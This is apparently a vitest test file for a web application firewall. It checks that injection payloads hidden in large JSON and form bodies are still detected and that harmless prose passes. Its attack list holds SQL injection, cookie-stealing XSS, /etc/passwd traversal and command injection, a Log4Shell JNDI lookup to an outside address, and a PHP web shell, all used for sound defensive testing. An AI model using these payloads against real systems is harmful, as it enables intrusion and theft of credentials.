// Long requests: what is looked at closely of them, and that padding hides nothing.

import type { InspectedRequest } from '@parapet/kinds';
import { expect, test } from 'vitest';
import { readParts, type Watch } from '../../../../src/detectors/content/decode/index.ts';
import { isShipped, shippedInspector } from '../evasions/shippedInspector.ts';

const PROSE =
  'The library, where members may order by telephone, opens at nine on every day of the week; select a room, and update your card there or at the desk. ';
const ATTACKS: readonly string[] = [
  "x' or 1=1 -- ",
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  '; cat /etc/passwd',
  '${jndi:ldap://192.0.2.7/a}',
  '<?php system($_GET["c"]); ?>',
  '-1 union all select null,login,pass from users',
  '1 and sleep(5)',
];

function post(type: string, body: string): InspectedRequest {
  return {
    method: 'POST',
    rawTarget: '/api/items',
    headers: [
      ['host', 'www.example.org'],
      ['content-type', type],
    ],
    body: Buffer.from(body),
    isBodyCut: false,
    site: '',
  };
}

const items = (count: number, at: number, text: string): string =>
  JSON.stringify(
    Array.from({ length: count }, (_, i) => ({
      id: i,
      title: 'A note',
      text: i === at ? text : PROSE.repeat(3),
    })),
  );

test.skipIf(!isShipped())('an attack is found wherever it stands in 64 KiB of prose in JSON', () => {
  const inspector = shippedInspector();
  for (const attack of ATTACKS) {
    for (const at of [0, 60, 119]) {
      const alone = inspector.inspect(post('application/json', items(120, at, attack)));
      expect(alone.action, `${attack} at ${at}`).toBe('block');
      const inside = items(120, at, `${PROSE}${attack} ${PROSE}`);
      expect(inspector.inspect(post('application/json', inside)).action, `${attack} inside ${at}`).not.toBe(
        'pass',
      );
    }
  }
});

test.skipIf(!isShipped())('an attack behind very many values is found', () => {
  const inspector = shippedInspector();
  const values = Array.from({ length: 6000 }, (_, i) => `value ${i}`);
  for (const attack of ATTACKS) {
    for (const at of [100, 1000, 3000, 5999]) {
      const json = JSON.stringify(values.with(at, attack));
      expect(inspector.inspect(post('application/json', json)).action, `${attack} at ${at}`).not.toBe('pass');
    }
    const form = values
      .map((value, i) => `f${i}=${encodeURIComponent(i === 900 ? attack : value)}`)
      .join('&');
    const { action } = inspector.inspect(post('application/x-www-form-urlencoded', form));
    expect(action, `${attack} in a form`).not.toBe('pass');
  }
});

test.skipIf(!isShipped())(
  'words that attacks are made of hide no attack, be there ever so many of them',
  () => {
    const inspector = shippedInspector();
    // Each has what rules look for, and is nothing but prose.
    const decoys = [
      'Please select the room (see "order of rooms") and update your card, or don\'t; the union of both & 1 > 0.',
      'Where we drop the script: "select a seat", `order by phone`; tickets are $3 - or 4 (for two)!',
      "It's a case of when, where and how; `union` members' cards -- see /etc/hosts {for example} | or ask.",
    ];
    for (const attack of [...ATTACKS, '-194 union select 1,2,3,login from users']) {
      const values = Array.from({ length: 600 }, (_, i) =>
        i === 311 ? attack : `${i} ${decoys[i % decoys.length]}`,
      );
      const { action } = inspector.inspect(post('application/json', JSON.stringify(values)));
      expect(action, attack).not.toBe('pass');
      // Of this one with prose around it nobody is sure.
      if (attack === '1 and sleep(5)') continue;
      const inOne = inspector.inspect(post('application/json', JSON.stringify({ one: values.join(' ') })));
      expect(inOne.action, `${attack} in one text`).toBe('block');
    }
    const honest = Array.from({ length: 600 }, (_, i) => `${i} ${decoys[i % decoys.length]}`);
    expect(inspector.inspect(post('application/json', JSON.stringify(honest))).action).toBe('pass');
  },
);

test('of a long text that is not hot the parts stay whole and nothing is read', () => {
  const watched: string[] = [];
  const watch: Watch = {
    glance: (text) => {
      watched.push(text);
      return { by: watched, signs: 0, literals: [], hasWord: false, isLexical: false };
    },
    work: () => 0,
    heat: (text) => (text.includes('hot') ? 9 : 0),
    heats: (text, length) =>
      Array.from({ length: Math.ceil(text.length / length) }, (_, i) =>
        text.slice(i * length, (i + 1) * length).includes('hot') ? 9 : 0,
      ),
  };
  const cold = 'word '.repeat(1000);
  const value = `${cold}hot ${cold}`;
  const request = post('application/json', JSON.stringify({ cold, value, short: 'a hot one' }));
  const { parts } = readParts(request, {}, watch);
  const focusOf = new Map(parts.map(({ name, focus }) => [name, focus]));
  expect(parts.find(({ name }) => name === '/value')?.value).toBe(value);
  expect(focusOf.get('/cold')).toBe('');
  expect(focusOf.get('/short')).toBe('a hot one');
  const focus = focusOf.get('/value') ?? '';
  expect(focus).toContain('word hot word');
  expect(focus.startsWith('word ') && focus.endsWith('word ')).toBe(true);
  expect(focus.length).toBeLessThan(600);
  // What is in front of the body is read at once and as a whole.
  expect(watched.join('|')).not.toContain(cold);
});

test.skipIf(!isShipped())('prose of any length passes', () => {
  const inspector = shippedInspector();
  expect(inspector.inspect(post('application/json', items(120, -1, ''))).action).toBe('pass');
  expect(inspector.inspect(post('application/json', items(2, -1, ''))).action).toBe('pass');
});

test('what is written there again and again is taken apart once, and hides nothing behind it', () => {
  const repeated = 'a=1&b%5B%5D=%C3%A9+x&data={"k":"v"}&s=<b>&';
  const type = 'application/x-www-form-urlencoded';
  const { parts } = readParts(post(type, `${repeated.repeat(2000)}a=last&b[]=%c0%ae&b[]=%c0%af`));
  expect(parts.length).toBeLessThan(100);
  expect(parts.map(({ value }) => value)).toContain('last');
  // Both are the same to a strict reader.
  const views = parts.flatMap((part) => part.views.map(({ text }) => text));
  expect(views).toEqual(expect.arrayContaining(['.', '/']));

  const line = '{"a":"one","b":["two"]}';
  const lines = `${`${line}\n`.repeat(2000)}{"a":"other"}`;
  const read = readParts(post('application/x-ndjson', lines)).parts;
  expect(read.length).toBeLessThan(200);
  expect(read.map(({ value }) => value)).toContain('other');
});

test.skipIf(!isShipped())(
  'an attack behind others that are all alike is found, and so is what is refused',
  () => {
    const inspector = shippedInspector();
    const type = 'application/x-www-form-urlencoded';
    const padding = 'q=select+a+room&n=1+%26+1+%3E+0&'.repeat(3000);
    for (const attack of ATTACKS) {
      const sent = post(type, `${padding}q=${encodeURIComponent(attack)}`);
      expect(inspector.inspect(sent).action, attack).not.toBe('pass');
    }
    const refused = post(type, `${padding}x=%c0%ae%c0%ae%c0%af&q=${encodeURIComponent(ATTACKS[1] ?? '')}`);
    expect(inspector.inspect(refused)).toMatchObject({ action: 'reject' });
    expect(inspector.inspect(refused).reasons.length).toBeGreaterThan(1);
  },
);
